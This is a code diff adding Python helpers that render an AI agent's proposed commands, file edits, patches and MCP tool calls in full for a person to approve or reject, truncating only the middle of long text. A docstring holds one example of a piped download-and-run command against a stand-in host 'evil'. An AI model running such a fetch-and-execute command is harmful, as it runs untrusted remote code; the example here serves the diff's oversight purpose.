@@ -69,6 +69,53 @@ def _action_text(action: dict[str, Any], thought: str) -> str:
 _EDITS = {"create": "create", "str_replace": "edit", "insert": "insert into", "undo_edit": "undo an edit of"}
 
 
+def cut_middle(text: str, limit: int) -> str:
+    """`text` whole, or its head and tail with the hidden middle's size said in between: an action's
+    dangerous part is as likely at its end (`…; curl evil | sh`) as at its start, and never silently gone."""
+    if len(text) <= limit:
+        return text
+    keep = max(limit - 80, 2)
+    hidden = len(text) - keep
+    return (
+        f"{text[: keep // 2]}\n[… {hidden:,} of {len(text):,} characters hidden here …]\n{text[-(keep - keep // 2) :]}"
+    )
+
+
+def action_detail(tool: str | None, action: dict[str, Any]) -> str:
+    """Everything a person needs to approve or reject an action, newlines kept: the whole command, the
+    file and the edit, the MCP tool and its arguments; other kinds by their kind and arguments."""
+    kind = str(action.get("kind") or "Action")
+    args = {k: v for k, v in action.items() if k != "kind" and v not in (None, "", [], {})}
+    command, path = action.get("command"), action.get("path") or action.get("file_path")
+    if kind == "MCPToolAction":
+        return f"call MCP tool {tool or 'unknown'} with arguments:\n{_json(action.get('data') or {})}"
+    if isinstance(command, str) and command and kind.startswith(("Terminal", "Bash", "CmdRun", "Execute")):
+        return f"run: {command}"
+    if isinstance(path, str) and path and (edit := _edit_detail(str(command or ""), path, action)):
+        return edit
+    if kind == "ApplyPatchAction":
+        return f"apply patch:\n{action.get('patch', '')}"
+    return f"{kind.removesuffix('Action')}: {_json(args)}"
+
+
+def _edit_detail(command: str, path: str, action: dict[str, Any]) -> str | None:
+    old = action.get("old_str", action.get("old_string"))
+    new = action.get("new_str", action.get("new_string"))
+    if command == "create" or action.get("kind") == "WriteFileAction":
+        return f"create {path} with:\n{action.get('file_text') or action.get('content') or ''}"
+    if command == "str_replace" or action.get("kind") == "EditAction":
+        return f"edit {path}: replace\n{old or ''}\nwith\n{new or ''}"
+    if command == "insert":
+        return f"insert into {path} after line {action.get('insert_line')}:\n{new or ''}"
+    if command in _EDITS or command == "view":
+        return f"{_EDITS.get(command, command)} {path}"
+    return None
+
+
+def _json(value: Any) -> str:
+    return json.dumps(value, ensure_ascii=False, indent=2, default=str)
+
+
 def describe_action(action: dict[str, Any]) -> str:
     """What an action does, in one line a person can judge: the command it runs, or the file and the
     kind of edit; other tools by their kind and main argument."""
